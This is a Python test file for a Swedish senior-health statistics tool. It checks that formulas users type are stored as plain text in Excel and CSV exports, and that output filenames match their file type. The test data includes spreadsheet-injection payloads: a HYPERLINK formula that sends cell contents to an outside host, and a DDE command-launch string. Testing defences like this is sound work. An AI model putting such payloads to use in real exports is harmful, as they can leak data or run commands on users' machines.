"""What a user typed stays text in the files for the controller: no cell of the workbook or of
the access-log CSV can start a formula, and a file is only written under its own kind of name."""

import csv

import pytest
from openpyxl import load_workbook

from seniorhalsan.operations.feedback import SaveFeedbackSummary
from tests.cli.test_cli import run

PLACE = '=HYPERLINK("http://example.org/?"&A1,"Klicka här")'
SUMMARY = "=1+2 gäller sammanfattningen"
PASSWORDS = {"SENIORHALSAN_NEW_PASSWORD": "ett-långt-lösen", "SENIORHALSAN_PASSWORD": "ett-långt-lösen"}


def test_a_place_and_a_summary_typed_as_formulas_are_text_in_the_workbook(db, db_url, tmp_path):
    attendance = tmp_path / "narvaro.csv"
    attendance.write_text("datum;mötesplats;aktivitet;kvinnor;män;övriga\n"
                          f"2025-03-04;{PLACE.replace(chr(34), chr(34) * 2).join(chr(34) * 2)};Gympa;10;2;0\n"
                          "2025-03-05;@Torget;Kör;5;1;0\n"
                          "2025-03-06;-Gården;Kör;4;1;0\n", encoding="utf-8")
    imported = run("import", "attendance", attendance, "--create-missing", db=db_url)
    assert imported.returncode == 0, imported.stderr
    db.perform(SaveFeedbackSummary(2025, SUMMARY))
    target = tmp_path / "statistik-2025.xlsx"
    assert run("export", "year", "--year", "2025", "-o", target, db=db_url).returncode == 0

    book = load_workbook(target)
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert {PLACE, SUMMARY, "@Torget", "-Gården"} <= texts  # shown as typed, never run
    for c in cells:
        if isinstance(c.value, str) and c.value[:1] in "=+-@":
            assert c.data_type == "s" and c.quotePrefix, c.coordinate  # and stays text when edited in Excel


def test_names_typed_as_formulas_are_text_in_the_access_log_csv(db_url, tmp_path):
    assert run("user", "add", "karin", "--role", "enhetschef", db=db_url, env=PASSWORDS).returncode == 0
    typed = ['=HYPERLINK("http://example.org","x")', "=cmd|' /C calc'!A0", "+46701740610", "-1+1", "@SUM(1)"]
    for name in typed:
        refused = run("stats", "--year", "2025", f"--user={name}", db=db_url, env=PASSWORDS)
        assert refused.returncode == 1
    target = tmp_path / "logg.csv"
    assert run("access-log", "--csv", target, "--user", "karin", db=db_url, env=PASSWORDS).returncode == 0
    with open(target, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh, delimiter=";"))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    names = {row[1] for row in rows[1:]}
    assert {"'" + name for name in typed} <= names


@pytest.mark.parametrize("args, message", [
    (("export", "year", "--year", "2025", "-o", "a.pdf"),
     "Utfil: filen blir en Excel-arbetsbok men namnet a.pdf slutar på .pdf; skriv t.ex. a.xlsx."),
    (("report", "year", "--year", "2025", "-o", "x.xlsx"),
     "Utfil: filen blir en PDF men namnet x.xlsx slutar på .xlsx; skriv t.ex. x.pdf."),
    (("report", "tertial", "--year", "2025", "--tertial", "1", "-o", "t1"),
     "Utfil: filen blir en PDF men namnet t1 har ingen ändelse; skriv t.ex. t1.pdf."),
    (("report", "folder", "--term", "ht2026", "-o", "folder.xlsx"), "skriv t.ex. folder.pdf."),
    (("access-log", "--csv", "logg.txt"), "Utfil: filen blir en CSV-fil men namnet logg.txt slutar på .txt"),
])
def test_a_file_named_as_another_kind_is_refused(args, message, db_url, tmp_path, monkeypatch):
    here = tmp_path / "här"
    here.mkdir()
    monkeypatch.chdir(here)
    result = run(*args, db=db_url)
    assert result.returncode == 1
    assert message in result.stderr
    assert list(here.iterdir()) == []


def test_the_access_log_service_refuses_a_name_that_is_not_csv(db, tmp_path):
    from seniorhalsan.errors import UserError
    from seniorhalsan.services import access_log

    with pytest.raises(UserError, match="CSV-fil"):
        db.read(access_log.export_csv, tmp_path / "logg.xlsx")
    assert not (tmp_path / "logg.xlsx").exists()
